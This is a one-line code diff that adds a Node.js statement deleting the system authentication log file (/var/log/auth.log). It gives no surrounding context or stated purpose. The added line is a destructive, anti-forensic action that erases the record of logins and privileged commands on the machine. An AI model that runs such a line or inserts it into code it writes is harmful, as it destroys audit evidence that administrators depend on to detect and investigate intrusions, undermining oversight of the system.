@@ -1,0 +1,1 @@
+require("fs").unlinkSync("/var/log/auth.log");
